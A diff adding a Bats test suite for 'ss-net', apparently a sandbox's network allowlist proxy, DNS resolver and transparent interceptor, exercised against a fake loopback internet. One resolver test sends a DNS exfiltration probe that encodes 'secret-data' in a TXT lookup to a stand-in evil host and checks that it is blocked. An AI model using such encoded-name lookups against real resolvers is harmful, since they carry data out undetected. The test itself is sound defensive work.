@@ -1,0 +1,289 @@
+#!/usr/bin/env bats
+# ss-net on its own: the policy commands, and the proxy and resolver against a stand-in for the
+# internet on loopback (a DNS server for fake names, an HTTP and an HTTPS server with a test CA).
+# Transparent interception runs in a network namespace of the test's own, where the test's
+# firewall rule redirects connections to a TEST-NET-2 address to ss-net, as a backend's would.
+
+load helpers
+
+setup() {
+  ss_setup
+  W="$BATS_TEST_TMPDIR"
+  PIDS=()
+  export CURL_HOME="$W"  # no request waits more than 10 s
+  echo "max-time = 10" >"$W/.curlrc"
+}
+
+teardown() {
+  local pid
+  for pid in "${PIDS[@]}"; do kill "$pid" 2>/dev/null || true; done
+  for pid in "${PIDS[@]}"; do wait "$pid" 2>/dev/null || true; done
+  [ -z "${NS:-}" ] || ip netns del "$NS" 2>/dev/null || true
+}
+
+# in_ns CMD...: runs CMD in the test's namespace when there is one.
+in_ns() {
+  if [ -n "${NS:-}" ]; then ip netns exec "$NS" "$@"; else "$@"; fi
+}
+
+# background FILE CMD...: starts CMD (in the namespace when there is one), stdout to FILE, and
+# waits until FILE has a line.
+background() {
+  local out=$1
+  shift
+  # Started directly (not through a function, so $! is the process itself) and without Bats'
+  # descriptor 3, which Bats waits on.
+  if [ -n "${NS:-}" ]; then
+    ip netns exec "$NS" "$@" >"$out" 2>"$out.err" 3>&- &
+  else
+    "$@" >"$out" 2>"$out.err" 3>&- &
+  fi
+  PIDS+=($!)
+  local i
+  for ((i = 0; i < 100; i++)); do
+    [ -s "$out" ] && return 0
+    sleep 0.05
+  done
+  cat "$out.err" >&2
+  return 1
+}
+
+# The stand-in internet: names allowed.test, other.test, evil.test and rebind.test, the first
+# three at 127.0.0.1 and rebind.test at 127.0.0.2; an HTTP and an HTTPS server on 127.0.0.1.
+fake_internet() {
+  background "$W/dns.port" python3 "$SS_SOURCE_DIR/tests/cli/dns_server.py" 127.0.0.1 0 \
+    "$W/dns.queries" allowed.test=127.0.0.1 other.test=127.0.0.1 evil.test=127.0.0.1 \
+    rebind.test=127.0.0.2
+  DNS_PORT=$(cat "$W/dns.port")
+  mkdir -p "$W/www"
+  echo "hello from outside" >"$W/www/index.html"
+  background "$W/http.port" python3 -c '
+import http.server, os, sys
+os.chdir(sys.argv[1])
+s = http.server.HTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
+print(s.server_address[1], flush=True)
+s.serve_forever()' "$W/www"
+  HTTP_PORT=$(cat "$W/http.port")
+  openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=test-ca \
+    -addext "subjectAltName=DNS:allowed.test,DNS:evil.test" \
+    -keyout "$W/tls.key" -out "$W/tls.crt" 2>/dev/null
+  background "$W/https.port" python3 -c '
+import http.server, os, ssl, sys
+os.chdir(sys.argv[1])
+s = http.server.HTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
+c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+c.load_cert_chain(sys.argv[2], sys.argv[3])
+s.socket = c.wrap_socket(s.socket, server_side=True)
+print(s.server_address[1], flush=True)
+s.serve_forever()' "$W/www" "$W/tls.crt" "$W/tls.key"
+  HTTPS_PORT=$(cat "$W/https.port")
+}
+
+# serve ARGS...: ss-net serve for sandbox "box" with the stand-in resolver upstream.
+serve() {
+  background "$W/ready.json" "$SS_BUILD_DIR/libexec/ss/ss-net" serve --sandbox box \
+    --upstream-dns "127.0.0.1:$DNS_PORT" "$@"
+  PROXY=$(jq -r '.proxy[0] // empty' "$W/ready.json")
+  DNS=$(jq -r '.dns[0] // empty' "$W/ready.json")
+  TRANSPARENT=$(jq -r '.transparent[0] // empty' "$W/ready.json")
+}
+
+LOG() { cat "$SS_HOME/.ss/sandboxes/box/net/log.jsonl"; }
+
+@test "net: usage errors say what is wrong and exit 64; bad rules exit 65 with the forms" {
+  run --separate-stderr ss net
+  assert_failure 64
+  assert_equal "$stderr" "$(printf '%s\n' "ss-net: error: a command is needed: allow, deny, mode, ls, log or serve" "hint: see 'ss-net --help'")"
+  run --separate-stderr ss net allow
+  assert_failure 64
+  run --separate-stderr ss net mode wide
+  assert_failure 64
+  [[ "$stderr" == *"unknown mode 'wide'"* ]]
+  run --separate-stderr ss net ls extra
+  assert_failure 64
+  run --separate-stderr ss net serve --sandbox box
+  assert_failure 64
+  run --separate-stderr ss net ls --proxy 127.0.0.1:0
+  assert_failure 64
+  run --separate-stderr ss net allow '*example.com'
+  assert_failure 65
+  assert_equal "$stderr" "$(printf '%s\n' "ss-net: error: invalid network rule '*example.com': '*' only as the whole first label: *.example.com" "hint: rules look like: example.com, *.example.com, example.com:443, 10.0.0.0/8, 10.1.2.3:22, [2001:db8::]/32")"
+  run --separate-stderr ss net ls --sandbox '../x'
+  assert_failure 65
+  assert_file_not_exists "$SS_HOME/.ss/sandboxes/box/net/policy.json"
+}
+
+@test "net: allow, deny and mode change the policy; ls shows it, in JSON too; files are 0600" {
+  run ss net ls --sandbox box
+  assert_success
+  assert_output "Sandbox 'box': mode allowlist"
+  run ss net allow Example.COM '*.github.com:443' 198.51.100.0/24 --sandbox box
+  assert_success
+  assert_output "$(printf '%s\n' "Sandbox 'box': mode allowlist" "  allow example.com" "  allow *.github.com:443" "  allow 198.51.100.0/24")"
+  run ss net deny example.com evil.test --sandbox box
+  assert_output "$(printf '%s\n' "Sandbox 'box': mode allowlist" "  allow *.github.com:443" "  allow 198.51.100.0/24" "  deny  example.com" "  deny  evil.test")"
+  SS_SANDBOX=box run ss net mode open
+  assert_success
+  run ss net ls --json --sandbox box
+  assert_success
+  echo "$output" | jq -e '.kind == "NetPolicy" and .version == 1 and .sandbox == "box" and .mode == "open"
+    and .allow == ["*.github.com:443", "198.51.100.0/24"] and .deny == ["example.com", "evil.test"]'
+  [ "$(stat -c %a "$SS_HOME/.ss/sandboxes/box/net/policy.json")" = 600 ]
+  [ "$(stat -c %a "$SS_HOME/.ss/sandboxes/box/net")" = 700 ]
+  run ss net allow example.com --sandbox box
+  refute_line "  deny  example.com"
+  assert_line "  allow example.com"
+}
+
+@test "net: the proxy lets allowed names through and refuses the rest at once, with the reason" {
+  fake_internet
+  ss net allow allowed.test rebind.test 127.0.0.1 --sandbox box >/dev/null
+  serve --proxy 127.0.0.1:0
+  # Plain HTTP and CONNECT to an allowed name.
+  run curl -sS --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
+  assert_success
+  assert_output "hello from outside"
+  run curl -sS -p --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
+  assert_output "hello from outside"
+  run curl -sS --proxy "http://$PROXY" --cacert "$W/tls.crt" "https://allowed.test:$HTTPS_PORT/"
+  assert_output "hello from outside"
+  # Denied: 403 with one line naming the rule and the command.
+  run curl -s -w '%{http_code}' --proxy "http://$PROXY" "http://evil.test:$HTTP_PORT/"
+  assert_output "ss-net: evil.test:$HTTP_PORT is not in the allowlist of sandbox 'box'; to allow it: ss net allow evil.test
+403"
+  run curl -sS --proxy "http://$PROXY" --cacert "$W/tls.crt" "https://evil.test:$HTTPS_PORT/"
+  assert_failure
+  assert_output --partial "403"
+  # An allowed name that resolves into the host's networks, and an address named directly.
+  run curl -s --proxy "http://$PROXY" "http://rebind.test:$HTTP_PORT/"
+  assert_output "ss-net: rebind.test:$HTTP_PORT leads to 127.0.0.2, an address on the host or its network, which sandbox 'box' may not reach; to allow it: ss net allow 127.0.0.2"
+  run curl -s --proxy "http://$PROXY" "http://127.0.0.3:$HTTP_PORT/"
+  assert_output "ss-net: 127.0.0.3:$HTTP_PORT is not in the allowlist of sandbox 'box'; to allow it: ss net allow 127.0.0.3"
+  # Not proxy requests.
+  run curl -s -w '%{http_code}' "http://$PROXY/x"
+  assert_output "ss-net: a proxy request needs an absolute http:// URL (or CONNECT)
+400"
+  # What the sandbox can read about its denials.
+  run curl -s "http://$PROXY/denials"
+  assert_line --regexp "^[0-9T:Z-]+ http evil.test:$HTTP_PORT: evil.test:$HTTP_PORT is not in the allowlist"
+  assert_line --regexp "^[0-9T:Z-]+ connect evil.test:$HTTPS_PORT: "
+  # The log: one line per connection, bytes counted for what went through.
+  LOG | jq -e -s "map(select(.verdict == \"allow\" and .kind == \"http\" and .destination == \"allowed.test\"
+    and .port == $HTTP_PORT and .address == \"127.0.0.1\" and .bytes_in > 0 and .bytes_out > 0
+    and .rule == \"allow allowed.test\" and .sandbox == \"box\")) | length == 1"
+  LOG | jq -e -s 'map(select(.verdict == "deny")) | length == 4'
+  [ "$(stat -c %a "$SS_HOME/.ss/sandboxes/box/net/log.jsonl")" = 600 ]
+  run ss net log --sandbox box
+  assert_success
+  assert_line --regexp "  allow  http  allowed.test:$HTTP_PORT  \(allow allowed.test\)  [0-9]+ B out, [0-9]+ B in$"
+  assert_line "    evil.test:$HTTP_PORT is not in the allowlist of sandbox 'box'; to allow it: ss net allow evil.test"
+  run ss net log --json --sandbox box
+  [ "${#lines[@]}" -eq "$(LOG | wc -l)" ]
+}
+
+@test "net: a policy change counts for the next connection, without a restart" {
+  fake_internet
+  ss net allow allowed.test 127.0.0.1 --sandbox box >/dev/null
+  serve --proxy 127.0.0.1:0 --dns 127.0.0.1:0
+  run curl -s -o /dev/null -w '%{http_code}' --proxy "http://$PROXY" "http://other.test:$HTTP_PORT/"
+  assert_output 403
+  ss net allow other.test --sandbox box >/dev/null
+  run curl -s --proxy "http://$PROXY" "http://other.test:$HTTP_PORT/"
+  assert_output "hello from outside"
+  run dig +short -p "${DNS##*:}" @127.0.0.1 other.test
+  assert_output 127.0.0.1
+  ss net deny other.test --sandbox box >/dev/null
+  run curl -s -o /dev/null -w '%{http_code}' --proxy "http://$PROXY" "http://other.test:$HTTP_PORT/"
+  assert_output 403
+  ss net mode none --sandbox box >/dev/null
+  run curl -s --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
+  assert_output "ss-net: sandbox 'box' has no network (mode none); to change it: ss net mode allowlist"
+  # A damaged policy file keeps the last good policy.
+  echo '{"mode":' >"$SS_HOME/.ss/sandboxes/box/net/policy.json"
+  run curl -s -o /dev/null -w '%{http_code}' --proxy "http://$PROXY" "http://allowed.test:$HTTP_PORT/"
+  assert_output 403
+  grep -q "keeping the previous policy" "$W/ready.json.err"
+}
+
+@test "net: the resolver answers allowed names only; nothing else reaches the upstream resolver" {
+  fake_internet
+  ss net allow allowed.test rebind.test --sandbox box >/dev/null
+  serve --dns 127.0.0.1:0
+  local p=${DNS##*:}
+  run dig +short -p "$p" @127.0.0.1 allowed.test
+  assert_output 127.0.0.1
+  run dig +short +tcp -p "$p" @127.0.0.1 ALLOWED.test
+  assert_output 127.0.0.1
+  run dig -p "$p" @127.0.0.1 evil.test
+  assert_output --partial "status: NXDOMAIN"
+  # Data carried out in a name, in a TXT lookup of an allowed name, in a name with odd bytes.
+  run dig -p "$p" @127.0.0.1 TXT c2VjcmV0LWRhdGE.evil.test
+  assert_output --partial "status: NXDOMAIN"
+  run dig -p "$p" @127.0.0.1 TXT allowed.test
+  assert_output --partial "status: REFUSED"
+  run dig -p "$p" @127.0.0.1 'c2Vj\.allowed.test'
+  assert_output --partial "status: NXDOMAIN"
+  run dig -p "$p" @127.0.0.1 +tcp ANY allowed.test
+  assert_output --partial "status: REFUSED"
+  # The upstream saw allowed.test (A) only.
+  run sort -u "$W/dns.queries"
+  assert_output "allowed.test 1"
+  LOG | jq -e -s 'map(select(.kind == "dns" and .verdict == "deny")) | length == 5'
+  LOG | jq -e -s 'map(select(.kind == "dns" and .destination == "c2vjcmv0lwrhdge.evil.test"
+    and .type == "TXT" and .rule == "mode allowlist")) | length == 1'
+}
+
+@test "net: transparent interception decides on SNI and Host, and resets what it refuses" {
+  NS="ssnet-test-$$"
+  ip netns add "$NS"
+  ip -n "$NS" link set lo up
+  ip -n "$NS" link add fake0 type veth peer name fake1
+  ip -n "$NS" link set fake1 up
+  ip -n "$NS" addr add 198.51.100.1/24 dev fake0
+  ip -n "$NS" link set fake0 up
+  fake_internet
+  ss net allow allowed.test 127.0.0.1 --sandbox box >/dev/null
+  serve --transparent 127.0.0.1:0 --proxy 127.0.0.1:0
+  # What a backend's firewall does: connections to the outside go to ss-net instead.
+  in_ns nft -f - <<EOF
+table ip sstest {
+  chain out {
+    type nat hook output priority -100; policy accept;
+    ip daddr 198.51.100.0/24 tcp dport { $HTTP_PORT, $HTTPS_PORT } redirect to :${TRANSPARENT##*:}
+  }
+}
+EOF
+  run in_ns curl -sS --resolve "allowed.test:$HTTP_PORT:198.51.100.9" "http://allowed.test:$HTTP_PORT/"
+  assert_success
+  assert_output "hello from outside"
+  run in_ns curl -sS --cacert "$W/tls.crt" --resolve "allowed.test:$HTTPS_PORT:198.51.100.9" \
+    "https://allowed.test:$HTTPS_PORT/"
+  assert_success
+  assert_output "hello from outside"
+  # Refused: plain HTTP gets the 403 line, TLS is reset (a wrong name, no name at all).
+  run in_ns curl -s --resolve "evil.test:$HTTP_PORT:198.51.100.9" "http://evil.test:$HTTP_PORT/"
+  assert_output "ss-net: evil.test:$HTTP_PORT is not in the allowlist of sandbox 'box'; to allow it: ss net allow evil.test"
+  run in_ns curl -sS --cacert "$W/tls.crt" --resolve "evil.test:$HTTPS_PORT:198.51.100.9" \
+    "https://evil.test:$HTTPS_PORT/"
+  assert_failure
+  assert_output --partial "reset"
+  run in_ns curl -sSk "https://198.51.100.9:$HTTPS_PORT/"
+  assert_failure
+  # The SNI names the server, whatever address the sandbox connected to: a name that is allowed
+  # with another address still goes to the allowed name's address.
+  LOG | jq -e -s "map(select(.kind == \"tls\" and .transparent and .sni == \"allowed.test\"
+    and .verdict == \"allow\" and .port == $HTTPS_PORT)) | length == 1"
+  LOG | jq -e -s 'map(select(.kind == "tls" and .verdict == "deny" and .rule == "sni"
+    and .reason == "no server name (SNI) in the TLS ClientHello")) | length == 1'
+  LOG | jq -e -s "map(select(.kind == \"http\" and .transparent and .host == \"evil.test\"
+    and .verdict == \"deny\")) | length == 1"
+}
+
+@test "net: serve says which listener it cannot bind" {
+  fake_internet
+  serve --proxy 127.0.0.1:0
+  run --separate-stderr "$SS_BUILD_DIR/libexec/ss/ss-net" serve --sandbox box \
+    --upstream-dns "127.0.0.1:$DNS_PORT" --proxy "$PROXY"
+  assert_failure 69
+  [[ "$stderr" == "ss-net: error: cannot listen for the proxy on 127.0.0.1 port ${PROXY##*:}: Address already in use" ]]
+}
